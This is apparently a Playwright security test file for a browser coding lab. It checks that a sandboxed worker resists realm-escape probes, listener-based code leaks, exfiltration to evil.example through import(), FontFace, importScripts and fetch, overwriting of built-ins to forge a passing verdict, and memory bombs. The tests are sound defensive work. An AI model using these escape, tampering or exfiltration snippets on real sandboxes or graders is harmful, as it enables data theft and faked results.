/**
 * The lab against a hostile service, one test per attack class, each appended to a scenario's
 * unfixed starter and run through the real page and worker: reaching the worker's own scope,
 * listening for the next run's code, sending data out of the page, forging the verdict by
 * changing built-ins, and exhausting memory. Attack code reports what it achieved through
 * `console.log` (the run's console) and catches what throws, so the service still loads.
 * The `networkGuard` fixture fails any test whose page sent a request beyond 127.0.0.1, and
 * `cspGuard` any test with a Content-Security-Policy violation.
 */
import type { Page } from '@playwright/test';
import type { RunSummary } from '../../runner/index.ts';
import { expect, LabPage, test } from './fixtures.ts';

/** Its starter misses its SLOs by far; `Math.ceil` once made its password hashing free. */
const PREFERRED_SCENARIO = 'blocking-event-loop';

async function openTarget(lab: LabPage): Promise<{ id: string; starter: string }> {
  await lab.gotoCatalog();
  const ids = await lab.scenarioIds();
  const id = ids.includes(PREFERRED_SCENARIO) ? PREFERRED_SCENARIO : ids[0];
  await lab.openScenario(id);
  return { id, starter: (await lab.code())! };
}

/** Runs `code` to its end (the starter's comparison run included); returns the state and summary. */
async function runCode(lab: LabPage, code: string, timeoutMs = 120_000): Promise<{ state: string; summary: RunSummary | null }> {
  await lab.setCode(code);
  await lab.run();
  const state = await lab.waitForRunEnd(timeoutMs);
  return { state, summary: state === 'done' || state === 'stopped' ? await lab.lastSummary() : null };
}

function consoleLines(summary: RunSummary | null, prefix: string): string[] {
  return (summary?.console ?? []).map((l) => l.replace(/^\[[^\]]*\]\s*/, '')).filter((l) => l.startsWith(prefix));
}

/** Every object the service might take for the realm's global, found the ways known to work elsewhere. */
const REALMS = `
const realms: [string, any][] = [];
for (const [how, get] of [
  ['globalThis', () => globalThis],
  ["Function('return this')()", () => Function('return this')()],
  ["({}).constructor.constructor('return this')()", () => ({}).constructor.constructor('return this')()],
  ["(0, eval)('this')", () => (0, eval)('this')],
  ['Object.getPrototypeOf(globalThis)', () => Object.getPrototypeOf(globalThis)],
  ['(function () { return this; })()', function (this: any) { return this; }],
] as [string, () => any][]) {
  try {
    const g = get();
    if (g !== undefined && g !== null) realms.push([how, g]);
    else console.log(\`realm \${how}: nothing\`);
  } catch (e: any) {
    console.log(\`realm \${how}: refused (\${e?.name})\`);
  }
}
`;

test('realm escape: no way to the worker scope', async ({ lab }) => {
  const { starter } = await openTarget(lab);
  const attack = `${starter}
${REALMS}
// What only the real worker scope has, looked for along each object's prototype chain.
const WORKER_SCOPE = ['postMessage', 'self', 'location', 'importScripts', 'addEventListener', 'onmessage', 'close', 'navigator', 'indexedDB', 'caches', 'WorkerGlobalScope', 'DedicatedWorkerGlobalScope'];
for (const [how, g] of realms) {
  const seen = WORKER_SCOPE.filter((name) => { try { return name in g; } catch { return false; } });
  console.log(\`escape \${how}: \${seen.length ? 'reached ' + seen.join(' ') : 'nothing of the worker'}\`);
}
`;
  const { state, summary } = await runCode(lab, attack);
  expect(state, 'the service loads and runs').toBe('done');
  const lines = consoleLines(summary, 'escape ');
  // Each of the six probes either returned an object, examined below, or said why not (nothing,
  // or refused: eval is refused, and code built with Function runs as the service's own).
  const notObjects = consoleLines(summary, 'realm ');
  expect(lines.length + notObjects.length, 'every probe accounted for').toBe(6);
  expect(lines.length, 'globalThis and its prototype were examined').toBeGreaterThanOrEqual(2);
  expect(
    lines.filter((l) => l.includes('reached')),
    'escapes that reached the worker scope',
  ).toEqual([]);
});

test("a listener on the worker scope never receives the next run's code", async ({ lab }) => {
  const { starter } = await openTarget(lab);
  const attack = (secret: string) => `${starter}
${REALMS}
const SECRET = '${secret}';
const found: string[] = [];
for (const [how, g] of realms) {
  try {
    const kept = g.__tailspinLeak;
    if (kept) found.push(\`\${how} kept \${String(kept).includes(SECRET) ? "this run's code" : 'messages'}\`);
  } catch {}
}
console.log(\`listener leak: \${found.join('; ') || 'none'}\`);
// A listener beside the lab's own (replacing \`onmessage\` would stop the lab, and with it the leak).
for (const [how, g] of realms) {
  try {
    g.addEventListener('message', (e: any) => { g.__tailspinLeak = (g.__tailspinLeak ?? '') + JSON.stringify(e.data); });
    console.log(\`listener on \${how}: added\`);
  } catch (e: any) {
    console.log(\`listener on \${how}: refused (\${e?.name})\`);
  }
}
`;
  const first = await runCode(lab, attack('first-run-secret'));
  expect(first.state).toBe('done');
  expect(
    consoleLines(first.summary, 'listener on ').filter((l) => l.endsWith('added')),
    'listeners added',
  ).toEqual([]);
  const second = await runCode(lab, attack('second-run-secret'));
  expect(second.state).toBe('done');
  expect(consoleLines(second.summary, 'listener leak:')).toEqual(['listener leak: none']);
});

test('exfiltration: import(), FontFace, OPFS, Web Locks and fetch send nothing anywhere', async ({ lab, page, context }) => {
  const outside: string[] = [];
  context.on('request', (r) => {
    if (new URL(r.url()).hostname !== '127.0.0.1' && !/^(data|blob):/.test(r.url())) outside.push(r.url());
  });
  const { starter } = await openTarget(lab);
  const attack = `${starter}
${REALMS}
const SECRET = 'exfiltrated-' + 'code';
const report = (what: string) => (outcome: string) => console.log(\`exfil \${what}: \${outcome}\`);
const attempt = (what: string, go: () => any) => {
  try {
    const result = go();
    if (result && typeof result.then === 'function') result.then(() => report(what)('succeeded'), (e: any) => report(what)(\`failed (\${e?.name})\`));
    else report(what)('succeeded');
  } catch (e: any) {
    report(what)(\`failed (\${e?.name})\`);
  }
};
// (Labelled without the call's own spelling: the sandbox's source transform renames that in strings too.)
attempt('dynamic import', () => import('https://evil.example/x.js?' + SECRET));
for (const [how, g] of realms) {
  attempt(\`FontFace via \${how}\`, () => new g.FontFace('x', 'url(https://evil.example/f?' + SECRET + ')').load());
  attempt(\`OPFS via \${how}\`, () => g.navigator.storage.getDirectory());
  attempt(\`Web Locks via \${how}\`, () => g.navigator.locks.request(SECRET, () => undefined));
  attempt(\`importScripts via \${how}\`, () => g.importScripts('https://evil.example/s.js?' + SECRET));
  attempt(\`real fetch via \${how}\`, () => g.fetch('https://evil.example/f?' + SECRET));
}
`;
  const { state, summary } = await runCode(lab, attack);
  expect(state).toBe('done');
  const lines = consoleLines(summary, 'exfil ');
  expect(
    lines.some((l) => l.startsWith('exfil dynamic import:')),
    'the import() attempt reported',
  ).toBe(true);
  expect(
    lines.filter((l) => l.endsWith('succeeded')),
    'attempts that succeeded',
  ).toEqual([]);
  // Anything started asynchronously has had time to reach the network.
  await page.waitForTimeout(1000);
  expect(outside, 'requests beyond 127.0.0.1').toEqual([]);
});

/**
 * Ways to forge a verdict by changing a built-in the simulator measures with: each made a
 * failing starter pass before the realm was sealed.
 */
const TAMPERING: Record<string, string> = {
  'Array.prototype.every': `Array.prototype.every = () => true;`,
  '%TypedArray%.prototype.sort': `
Float64Array.prototype.sort = function (this: any) { return this.fill(0); };
Object.getPrototypeOf(Float64Array.prototype).sort = function (this: any) { return this.fill(0); };`,
  'Math.ceil': `
Math.ceil = () => 0;
Object.getPrototypeOf(Math).ceil = () => 0;`,
  'Array.prototype[Symbol.iterator]': `Array.prototype[Symbol.iterator] = function* () {};`,
};

for (const [route, statements] of Object.entries(TAMPERING)) {
  test(`tampering with ${route} neither passes the starter nor outlives the run`, async ({ lab, page }) => {
    const { id, starter } = await openTarget(lab);
    // A clean run first: it seals the realm, and is what every later run of the starter must equal.
    const clean = await runCode(lab, starter);
    expect(clean.state).toBe('done');
    expect(clean.summary?.passed).toBe(false);

    const attack = `${starter}
for (const [i, tamper] of [() => { ${statements.trim().split('\n').join(' }, () => { ')} }].entries()) {
  try { tamper(); console.log(\`tamper \${i}: applied\`); } catch (e: any) { console.log(\`tamper \${i}: refused (\${e?.name})\`); }
}
`;
    // Its text is not the starter's, so it is compiled now, after the realm was sealed.
    const tampered = await runCode(lab, attack);
    expect(tampered.state, 'the service still loads').toBe('done');
    expect(
      consoleLines(tampered.summary, 'tamper ').filter((l) => l.includes('applied')),
      'changes that took',
    ).toEqual([]);
    expect(tampered.summary?.passed, 'the tampered starter still fails').toBe(false);
    await expect(page.getByTestId('verdict')).toHaveAttribute('data-passed', 'false');
    await expect(page.getByText(/targets? (is )?met/)).toHaveCount(0);

    // Nothing of it is left for the next run: the plain starter gives the clean numbers.
    const after = await runCode(lab, starter);
    expect(after.state).toBe('done');
    expect(after.summary).toEqual(clean.summary);
    expect(await page.evaluate(() => window.__tailspin!.baselineSummary())).toEqual(clean.summary);

    await lab.gotoCatalog();
    await expect(page.getByTestId(`scenario-card-${id}`).getByTestId('solved-status')).toHaveText(/Not solved/);
  });
}

async function expectMemoryMessage(page: Page): Promise<void> {
  const message = page.getByTestId('run-message');
  await expect(message).toHaveAttribute('data-reason', 'memory');
  await expect(message).toContainText('memory');
  await expect(message).not.toContainText('never yield');
}

test('an allocation bomb is stopped with a message about memory, and the next run works', async ({ lab, page }) => {
  const { starter } = await openTarget(lab);
  const { state } = await runCode(lab, `${starter}\nconst bomb = new Float64Array(5e8).fill(1);\nconsole.log(bomb.length);\n`);
  expect(state).toBe('failed');
  await expectMemoryMessage(page);
  const next = await runCode(lab, starter);
  expect(next.state).toBe('done');
  expect(next.summary?.status).toBe('completed');
});

/**
 * Whether the engine refuses the allocation at once (a RangeError: the run fails, naming
 * memory) or is still inside the built-in when the watchdog looks (the run is reported as
 * unanswering, with one message that names both causes) depends on the memory this machine
 * has free: neither gives a verdict, and either way the learner is told memory and the next
 * run works.
 */
test('one huge allocation in a built-in call is stopped as unanswering, naming loops and memory, and the next run works', async ({
  lab,
  page,
}) => {
  const { starter } = await openTarget(lab);
  const { state } = await runCode(lab, `${starter}\nconst bomb = new Array(1e9).fill(0);\nconsole.log(bomb.length);\n`, 90_000);
  expect(['hung', 'failed']).toContain(state);
  const message = page.getByTestId('run-message');
  await expect(message).toContainText('memory');
  await expect(message).toContainText('Your code is kept');
  if (state === 'hung') {
    await expect(message).toContainText('never yield');
    await expect(message).not.toHaveAttribute('data-reason');
  } else {
    await expect(message).toHaveAttribute('data-reason', 'memory');
  }
  const next = await runCode(lab, starter);
  expect(next.state).toBe('done');
  expect(next.summary?.status).toBe('completed');
});

/**
 * What the lab cannot stop: a service that keeps a little more memory on every event. In
 * Chromium a dedicated worker shares its page's renderer process, so when the worker's heap is
 * full (about 4 GB) the whole page ends, with no event first and no API a worker could watch
 * its heap with. What the lab can do: lose nothing, and say what happened on the next load.
 * How soon a heap fills depends on the machine (and a service that burns CPU as it allocates
 * often has its run settled on a certain miss first), so the test ends the renderer itself,
 * as the engine would, while such a service runs.
 */
test('a page that ends during a run (as when the service fills the heap) keeps the code; the next page says why', async ({
  lab,
  page,
  context,
}) => {
  const { id, starter } = await openTarget(lab);
  const code = `${starter}\nconst kept: object[] = [];\nsetInterval(() => { for (let i = 0; i < 100_000; i++) kept.push({ i, at: Date.now() }); }, 10);\n`;
  await lab.setCode(code);
  await lab.run();
  await page.waitForFunction(() => window.__tailspin!.runState() === 'simulating', null, { timeout: 120_000, polling: 50 });
  const crashed = page.waitForEvent('crash', { timeout: 60_000 });
  const cdp = await context.newCDPSession(page);
  void cdp.send('Page.crash').catch(() => {
    // The renderer ends before it can answer.
  });
  await crashed;
  const next = new LabPage(await context.newPage());
  await next.openScenario(id);
  expect(await next.code(), 'the code the page died with').toBe(code);
  await expect(next.page.getByTestId('notice')).toContainText('memory', { timeout: 30_000 });
});
